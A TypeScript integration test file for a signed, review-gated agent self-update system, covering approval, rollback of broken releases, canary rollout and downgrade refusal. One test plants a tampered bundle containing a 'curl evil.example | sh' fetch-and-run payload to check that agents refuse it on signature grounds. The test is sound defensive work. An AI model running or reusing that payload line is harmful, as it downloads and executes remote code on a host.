/**
 * Review-gated self-update on the local provider, with real agents under their real supervisor:
 * a signed release reaches agents only once approved; approve v2 → every agent runs v2; a broken
 * v3 (crashes at start) → every agent back on v2 with events saying why; a release whose bundle
 * was swapped after publishing is refused by the agents (signature); a release that never
 * becomes healthy is rolled back at its deadline; a canary share updates only its agents.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundleAgent } from '../../src/build/agent-bundle.ts';
import { agentReleases } from '../../src/db/schema.ts';
import { canaryBucket, newReleaseKey, sha256Hex, signRelease } from '../../src/domain/releases.ts';
import { runCli } from '../helpers/cli.ts';
import { startTestHangar, type TestHangar } from '../helpers/hangar.ts';

let h: TestHangar;
let work: string;
let keyFile: string;
let privateKeyPem: string;
const ids: string[] = [];

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'hangar-releases-'));
  const key = newReleaseKey();
  privateKeyPem = key.privateKeyPem;
  keyFile = join(work, 'release-key.pem');
  writeFileSync(keyFile, key.privateKeyPem, { mode: 0o600 });
  // Agents check only when asked (approval nudges them); the trial gets 15 s to prove itself.
  h = await startTestHangar('update', { releaseKeys: [key.publicKey], updateCheckSeconds: 3600, updateTrialSeconds: 15 });
  for (const n of ['upd-a', 'upd-b', 'upd-c']) {
    const res = await h.api('/v1/instances', { method: 'POST', json: { provider: 'local', name: n } });
    expect(res.status).toBe(201);
    ids.push(((await res.json()) as { id: string }).id);
  }
  for (const id of ids) await h.waitFor(id, (r) => r.status === 'running' && r.connection === 'connected' && r.workloadHealthy === true, 60_000);
}, 120_000);

afterAll(async () => {
  for (const id of ids) await h?.api(`/v1/instances/${id}`, { method: 'DELETE' });
  for (const id of ids) await h?.waitFor(id, (r) => r.status === 'stopped', 30_000).catch(() => {});
  await h?.close();
});

const cli = (args: string[]) => runCli(h, args, 120_000);
const versions = async () => Promise.all(ids.map(async (id) => (await h.engine.store.get(id)).agentVersion));
const allOn = (v: string) => async () => (await versions()).every((x) => x === v);
async function updateEvents(id: string): Promise<{ kind: string; reason: string; data: { update?: string; version?: string } | null }[]> {
  const items = (await (await h.api(`/v1/instances/${id}/events?limit=1000`)).json()).items as { kind: string; reason: string; data: { update?: string; version?: string } | null }[];
  return items.filter((e) => e.data?.update);
}
async function until(pred: () => Promise<boolean>, timeoutMs: number, what: string): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await pred())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}: versions ${JSON.stringify(await versions())}`);
    await new Promise((r) => setTimeout(r, 250));
  }
}
async function build(version: string): Promise<string> {
  const file = join(work, `agent-${version}.mjs`);
  await bundleAgent(file, version);
  return file;
}
const healthy = async () => (await Promise.all(ids.map((id) => h.engine.store.get(id)))).every((r) => r.connection === 'connected' && r.workloadHealthy === true);

describe('review-gated agent self-update', () => {
  it('refuses a release not signed by a trusted key, naming the field', async () => {
    const bundle = Buffer.from('export {};\n');
    const other = newReleaseKey();
    const res = await h.api('/v1/agent-releases', { method: 'POST', json: { version: '9.9.9', bundle: bundle.toString('base64'), signature: signRelease(bundle, '9.9.9', other.privateKeyPem) } });
    expect(res.status).toBe(400);
    const problem = await res.json();
    expect(problem.errors).toEqual([expect.objectContaining({ field: 'signature' })]);
    expect(problem.detail).toMatch(/does not verify/);
    // A signature for another version does not carry over.
    const res2 = await h.api('/v1/agent-releases', { method: 'POST', json: { version: '9.9.8', bundle: bundle.toString('base64'), signature: signRelease(bundle, '9.9.9', privateKeyPem) } });
    expect(res2.status).toBe(400);
    const bad = await h.api('/v1/agent-releases', { method: 'POST', json: { version: 'latest', bundle: 'x', signature: 'y' } });
    expect(bad.status).toBe(400);
    expect((await bad.json()).errors[0].field).toBe('version');
  });

  it('a published release reaches no agent until approved; approve v2 → every agent on v2', async () => {
    const v2 = await build('2.0.0');
    const pub = await cli(['agent', 'release', 'publish', '2.0.0', '--key', keyFile, '--bundle', v2]);
    expect(pub.code, pub.stderr).toBe(0);
    expect(pub.stdout).toMatch(/agent 2\.0\.0 published/);
    // Not approved: an agent asked to update stays where it is.
    const before = await h.api(`/v1/instances/${ids[0]}/agent-update`, { method: 'POST' });
    expect(await before.json()).toMatchObject({ ok: true, data: { staged: false, detail: 'up to date (0.1.0)' } });
    expect(await versions()).toEqual(['0.1.0', '0.1.0', '0.1.0']);

    const t0 = Date.now();
    const ok = await cli(['agent', 'release', 'approve', '2.0.0']);
    expect(ok.code, ok.stderr).toBe(0);
    await until(allOn('2.0.0'), 90_000, 'every agent on 2.0.0');
    await until(async () => (await Promise.all(ids.map(updateEvents))).every((ev) => ev.some((e) => e.data?.update === 'committed' && e.data.version === '2.0.0')), 30_000, 'commit events');
    await until(healthy, 60_000, 'healthy agents');
    process.stdout.write(`self-update: ${ids.length} agents 0.1.0 → 2.0.0 in ${Date.now() - t0} ms\n`);

    const phases = (await updateEvents(ids[0])).filter((e) => e.data?.version === '2.0.0').map((e) => e.data!.update);
    expect(phases).toEqual(['available', 'downloaded', 'switching', 'committed']);
    const ls = await cli(['agent', 'release', 'ls', '--json']);
    expect(JSON.parse(ls.stdout).items).toEqual([expect.objectContaining({ version: '2.0.0', status: 'approved', agents: 3 })]);
  }, 150_000);

  it('a broken v3 (crashes at start) → every agent back on v2, with events explaining why; v3 is not tried again', async () => {
    const v3 = join(work, 'agent-3.0.0.mjs');
    writeFileSync(v3, "process.stderr.write('agent 3.0.0: fatal: cannot load config\\n');\nprocess.exit(1);\n");
    expect((await cli(['agent', 'release', 'publish', '3.0.0', '--key', keyFile, '--bundle', v3])).code).toBe(0);
    expect((await cli(['agent', 'release', 'approve', '3.0.0'])).code).toBe(0);
    await until(async () => (await Promise.all(ids.map(updateEvents))).every((ev) => ev.some((e) => e.data?.update === 'rolled-back' && e.data.version === '3.0.0')), 90_000, 'rollback events');
    await until(allOn('2.0.0'), 30_000, 'every agent back on 2.0.0');
    await until(healthy, 30_000, 'healthy agents after rollback');
    for (const id of ids) {
      const rolled = (await updateEvents(id)).find((e) => e.data?.update === 'rolled-back')!;
      expect(rolled.kind).toBe('warning');
      expect(rolled.reason).toMatch(/agent update 2\.0\.0 → 3\.0\.0: rolled back: 3\.0\.0 exited with code 1 before it was healthy/);
    }
    // The agents remember: asked again, they do not try v3.
    const again = await h.api(`/v1/instances/${ids[1]}/agent-update`, { method: 'POST' });
    expect(await again.json()).toMatchObject({ ok: true, data: { staged: false, detail: 'up to date (2.0.0)' } });
  }, 150_000);

  it('a bundle swapped after publishing fails the agents’ signature check and is refused', async () => {
    const v4 = await build('4.0.0');
    expect((await cli(['agent', 'release', 'publish', '4.0.0', '--key', keyFile, '--bundle', v4])).code).toBe(0);
    // Someone with database access replaces the bundle (and its checksum) but cannot sign it.
    const evil = Buffer.from("require('child_process').execSync('curl evil.example | sh');\n");
    await h.database.db.update(agentReleases).set({ bundle: evil, sha256: sha256Hex(evil), size: evil.length }).where(eq(agentReleases.version, '4.0.0'));
    expect((await cli(['agent', 'release', 'approve', '4.0.0'])).code).toBe(0);
    await until(async () => (await Promise.all(ids.map(updateEvents))).every((ev) => ev.some((e) => e.data?.update === 'refused' && e.data.version === '4.0.0')), 60_000, 'refusals');
    for (const id of ids) expect((await updateEvents(id)).find((e) => e.data?.version === '4.0.0' && e.data.update === 'refused')!.reason).toMatch(/signature does not verify/);
    expect(await versions()).toEqual(['2.0.0', '2.0.0', '2.0.0']);
    expect(readFileSync(join(h.dataDir, 'local-servers', (await h.engine.store.get(ids[0])).serverId!, 'releases', 'pointer.json'), 'utf8')).not.toContain('4.0.0/agent.mjs');
  }, 120_000);

  it('a release that never becomes healthy is rolled back at its deadline', async () => {
    const v5 = join(work, 'agent-5.0.0.mjs');
    writeFileSync(v5, 'setInterval(() => {}, 1000); // starts, never connects, never serves\n');
    expect((await cli(['agent', 'release', 'publish', '5.0.0', '--key', keyFile, '--bundle', v5])).code).toBe(0);
    expect((await cli(['agent', 'release', 'approve', '5.0.0'])).code).toBe(0);
    await until(async () => (await Promise.all(ids.map(updateEvents))).every((ev) => ev.some((e) => e.data?.update === 'rolled-back' && e.data.version === '5.0.0')), 90_000, 'deadline rollbacks');
    const rolled = (await updateEvents(ids[2])).find((e) => e.data?.update === 'rolled-back' && e.data.version === '5.0.0')!;
    expect(rolled.reason).toMatch(/5\.0\.0 not healthy by its deadline: it never reported its status/);
    await until(allOn('2.0.0'), 30_000, 'every agent back on 2.0.0');
    await until(healthy, 30_000, 'healthy agents after the deadline rollback');
  }, 150_000);

  it('a canary share updates only its agents; widening it updates the rest', async () => {
    const v6 = await build('6.0.0');
    expect((await cli(['agent', 'release', 'publish', '6.0.0', '--key', keyFile, '--bundle', v6])).code).toBe(0);
    const buckets = ids.map((id) => canaryBucket(id, '6.0.0'));
    const share = Math.min(...buckets) + 1; // exactly the agents below it
    const expected = ids.map((_, i) => (buckets[i] < share ? '6.0.0' : '2.0.0'));
    const r = await cli(['agent', 'release', 'approve', '6.0.0', '--canary', String(share), '--json']);
    expect(JSON.parse(r.stdout)).toMatchObject({ status: share < 100 ? 'canary' : 'approved', canaryPercent: share });
    await until(async () => JSON.stringify(await versions()) === JSON.stringify(expected), 90_000, `canary ${JSON.stringify(expected)}`);
    // The others were asked too and stayed.
    await new Promise((res) => setTimeout(res, 1000));
    expect(await versions()).toEqual(expected);
    expect((await cli(['agent', 'release', 'approve', '6.0.0'])).code).toBe(0);
    await until(allOn('6.0.0'), 90_000, 'every agent on 6.0.0');
    await until(healthy, 30_000, 'healthy agents on 6.0.0');
  }, 200_000);

  it('approving a lower version than the highest approved is refused, naming version, unless --allow-downgrade (recorded)', async () => {
    // 5.0.0 (approved earlier, refused by the agents) is below 6.0.0: re-approving it would roll back.
    const refused = await cli(['agent', 'release', 'approve', '5.0.0']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/5\.0\.0 is lower than 6\.0\.0.*--allow-downgrade/);
    const allowed = await cli(['agent', 'release', 'approve', '5.0.0', '--allow-downgrade', '--json']);
    expect(allowed.code).toBe(0);
    expect(JSON.parse(allowed.stdout)).toMatchObject({ version: '5.0.0', status: 'approved', downgradeAllowedBy: expect.any(String) });
  });
});
